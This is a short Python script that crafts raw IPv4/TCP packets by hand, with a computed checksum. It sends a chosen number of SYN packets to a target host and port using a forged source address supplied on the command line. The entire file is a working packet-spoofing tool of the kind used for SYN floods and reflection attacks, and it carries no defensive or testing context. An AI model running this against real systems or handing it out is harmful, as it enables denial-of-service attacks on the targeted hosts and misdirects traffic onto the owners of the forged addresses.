"""Sends TCP SYNs with a forged source: forged-syn.py SOURCE DESTINATION PORT COUNT. Needs CAP_NET_RAW."""
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


source, destination, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
ends = socket.inet_aton(source) + socket.inet_aton(destination)
for number in range(count):
    syn = struct.pack("!HHIIBBHHH", 20000 + number, port, 1000 + number, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(syn))
    syn = syn[:16] + struct.pack("!H", checksum(pseudo + syn)) + syn[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(syn), number, 0, 64, socket.IPPROTO_TCP, 0) + ends
    raw.sendto(header + syn, (destination, 0))
